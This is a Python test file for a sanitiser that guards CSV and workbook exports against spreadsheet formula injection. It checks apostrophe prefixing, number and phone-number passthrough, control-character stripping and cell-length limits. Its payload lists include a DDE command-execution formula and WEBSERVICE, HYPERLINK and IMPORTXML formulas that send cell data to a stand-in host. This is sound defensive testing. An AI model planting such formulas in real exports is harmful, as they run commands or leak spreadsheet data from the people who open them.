import csv
import io
import re
import time
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leads.exports.safe import LONGEST_IN_SHEET, csv_text, evaluates, sheet_text

CALLS = (
    *("1+1", "1+cmd|' /C calc'!A0", "SUM(1,2)", 'HYPERLINK("https://example.test?"&A1,"here")', "A1", "'x'!A1"),
    *('WEBSERVICE("https://example.test/"&B2)', "IMPORTXML(CONCAT(\"https://example.test/\",B2),\"//a\")", "-2+3+A1"),
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BLANKS = ("", " ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000", "\u200b", "\ufeff", " \t ", "\x00", "\x1f")
PAYLOADS = [blank + start + call for blank, start, call in product(BLANKS, STARTS, CALLS)]


def pieces(text, ends=";\t\r\n"):
    """What a spreadsheet could make a cell of, whichever of these it splits at; without the blanks it may trim."""
    return [piece.strip(' "\xa0\u3000\u200b\ufeff\x1f') for piece in re.split(f"[{ends}]", text)]


@pytest.mark.parametrize("start", STARTS)
def test_nothing_that_begins_like_a_formula_is_left_as_it_was(start):
    for text in (text for text in PAYLOADS if text.strip("".join(BLANKS)).startswith(start)):
        made = csv_text(text)
        assert made.startswith("'")
        assert not any(piece.startswith(STARTS) for piece in pieces(made)), text
        assert made.replace("'", "") == text.replace("'", "").replace("\0", "")


@pytest.mark.parametrize("text", ["x;=1+1", "x; =1+1;y", "x\t@SUM(1)", "x\n-1+A1", 'x;"=1+1";y', "a;\r\n＝1+1"])
def test_a_formula_behind_another_separator_is_none_either(text):
    assert evaluates(text)
    assert not any(piece.startswith(STARTS) for piece in pieces(csv_text(text)))
    assert csv_text(text).replace("'", "") == text


@pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", " \tx"])
def test_text_that_begins_with_a_tab_or_a_line_break_is_guarded(text):
    assert csv_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        *(
            "-5",
            "+5",
            "-0.5",
            "-1,234.50",
            "+3 %",
            "-1e5",
            " -5 ",
            "+64 21 555 0100",
            "+64215550100",
            "+1 (555) 010-0199",
        ),
        *(
            "+64-21-555-0100",
            "a; +64 21 555 0100; -7",
            "12 + 5 = 17",
            "AC-DC",
            "me@example.test",
            "Ngā Tamariki",
            "ʻOfa",
        ),
        *("", "'n Roll", "https://example.test/?a=1;b=2", "x;y", "!!!", "$up-A=Dupa", "ʔəlx̌", "مرحبا", "🎸=rock"),
    ],
)
def test_numbers_phone_numbers_and_plain_text_stay_as_they_are(text):
    assert not evaluates(text)
    assert csv_text(text) == text


@pytest.mark.parametrize("text", ["-5+5", "+1-1", "-5;=1", "+64 21 555 0100=1", "-", "+A1", "-5\n+A1"])
def test_what_only_begins_like_a_number_is_guarded(text):
    assert evaluates(text)


@given(st.text())
def test_only_apostrophes_are_added_and_half_characters_dropped(text):
    made = csv_text(text)
    assert made.replace("'", "") == text.replace("'", "").replace("\0", "")
    assert evaluates(text) or made == text.replace("\0", "")


def test_very_long_text_takes_no_time():
    begun = time.perf_counter()
    blanks = "\x1c" * 25 + "x"  # a blank and a control character, too: two ways each to read it would be 2 to the 25th
    long = ("\n" * 300_000, "; " * 150_000, " " * 300_000 + "x", "+1" * 150_000, "1," * 150_000, "+1 " * 99_999)
    for text in (blanks, f";{blanks}", *long):
        csv_text(text), csv_text(f"-{text}")
    assert time.perf_counter() - begun < 2


def test_csv_holds_no_nul_and_can_be_encoded():
    assert csv_text("a\0b\ud800c") == "abc"
    csv.writer(io.StringIO()).writerow([csv_text("\0=1")])


def test_a_workbook_holds_the_text_itself_without_what_xml_cannot_hold():
    assert sheet_text("=1+1") == "=1+1"
    assert sheet_text("a\0\x01\x0b\x1f\ud83d\ufffe\uffffb\tc\x85é🎸") == "ab\tc\x85é🎸"
    assert sheet_text("one\r\ntwo\rthree\n") == "one\ntwo\nthree\n"


@pytest.mark.parametrize("character", ["a", "ā", "🎸"])
def test_text_too_long_for_a_cell_is_cut_with_an_ellipsis(character):
    made = sheet_text(character * 40_000)
    assert made.endswith(f"{character}…")
    assert LONGEST_IN_SHEET - 1 <= len(made.encode("utf-16-le")) // 2 <= LONGEST_IN_SHEET
    assert sheet_text(character * 16_000) == character * 16_000
